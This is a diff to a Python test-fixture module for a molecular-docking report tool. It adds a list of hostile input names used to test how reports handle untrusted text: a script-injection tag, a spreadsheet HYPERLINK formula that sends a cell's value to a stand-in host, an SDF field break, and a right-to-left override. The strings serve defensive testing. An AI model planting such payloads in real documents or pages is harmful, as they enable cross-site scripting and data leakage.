@@ -9,17 +9,31 @@ import numpy as np
 from rdkit import Chem
 from rdkit.Chem import AllChem, rdCIPLabeler, rdMolTransforms
 
+from workbench.report.folders import read_docking_result
+from workbench.report.tour_scene import POSES, WILD_TYPE
 from workbench.results import AdductRecord, DockingResult, PoseRecord
 
 KPT_185 = r"CC(C)OC(=O)/C=C\n1cnc(-c2cc(OC)cc(C(F)(F)F)c2)n1"
 BOUND = "CC(C)OC(=O)CCn1cnc(-c2cc(OC)cc(C(F)(F)F)c2)n1"
 ADDUCT = "CC(C)OC(=O)C[C{}H](SC[C@H](N)C(=O)O)n1cnc(-c2cc(OC)cc(C(F)(F)F)c2)n1"
 BETA = 7
+MOVED = ("525", "529", "537", "541", "544", "548", "568", "572", "576")
 FIRST_RESIDUE = 526
 SEQUENCE = "GLCEQ"
 HOSTILE = (
     '=HYPERLINK("x")\n> <score_kcal_per_mol>\n99\n\n$$$$\n</script><script>alert(1)</script>&"'
 )
+HOSTILE_NAMES = {
+    "everything": HOSTILE,
+    "script": "<script>alert(1)</script>",
+    "formula": '=HYPERLINK("http://example.org/?"&A1,"click")',
+    "formula after a space": " =1+1",
+    "10 kB": "n" * 10_000,
+    "right to left": "\u202eevil \u05e9\u05dc\u05d5\u05dd\u202c abc",
+    "emoji": "\U0001f9ea\U0001f469\u200d\U0001f52c drug",
+    "broken encoding": "drug\udcff",
+}
+"""What a name from outside may be."""
 
 
 def bonded_peptide(label: str, seed: int) -> Chem.Mol:
@@ -173,6 +187,56 @@ def with_path(adduct: AdductRecord) -> AdductRecord:
     return replace(
         adduct, poses=(first, *adduct.poses[1:]), seed_scores_kcal_per_mol=(-10.9, -10.5, -10.7)
     )
+
+
+def hostile_result(result: DockingResult, text: str) -> DockingResult:
+    """Return the same result with a text wherever one can come from outside."""
+    first = result.adducts[0]
+    pose = replace(
+        first.poses[0],
+        failed_checks=(text,),
+        valid=False,
+        side_chains=({"residue": text, "dihedrals_degree": [text], "moved_angstrom": 1.0},),
+        posebusters={"checks": {text: False}, "failed": [text], "note": text},
+        interactions=({"type": text, "residue": text, "receptor_atom": text},),
+    )
+    return replace(
+        result,
+        reason=text,
+        ligand={**result.ligand, "name": text, "formula": text, "inchikey": text},
+        receptor={**result.receptor, "name": text, "source": text},
+        encounter=(replace(result.encounter[0], face=text, leads_to=(text,)),),
+        ranking={**(result.ranking or {}), "words": text},
+        adducts=(replace(first, formula=text, form=text, poses=(pose, *first.poses[1:])),),
+        warnings=(text,),
+        timing={text: 1.0},
+        provenance={**result.provenance, "command": text, "inputs": {text: text}},
+        reference={**(result.reference or {}), "name": text, "note": text},
+    )
+
+
+def ten_poses() -> DockingResult:
+    """Return a run on the whole groove, ten poses that each move nine side chains."""
+    result = read_docking_result(POSES / WILD_TYPE)
+    adduct = result.adducts[0]
+    first = adduct.poses[0]
+    poses = tuple(
+        replace(
+            first,
+            rank=rank,
+            complex_pdb="\n".join(_moved(x, 0.2 * rank) for x in first.complex_pdb.splitlines()),
+        )
+        for rank in range(1, 11)
+    )
+    return replace(result, adducts=(replace(adduct, poses=poses),))
+
+
+def _moved(line: str, by: float) -> str:
+    """Return an atom's line, moved along x when it is of a side chain that turns."""
+    turns = line[22:26].strip() in MOVED and line[12:16].strip() not in ("N", "CA", "C", "O")
+    if not line.startswith("ATOM") or not turns:
+        return line
+    return f"{line[:30]}{float(line[30:38]) + by:8.3f}{line[38:]}"
 
 
 def without_adducts(result: DockingResult, verdict: str) -> DockingResult:
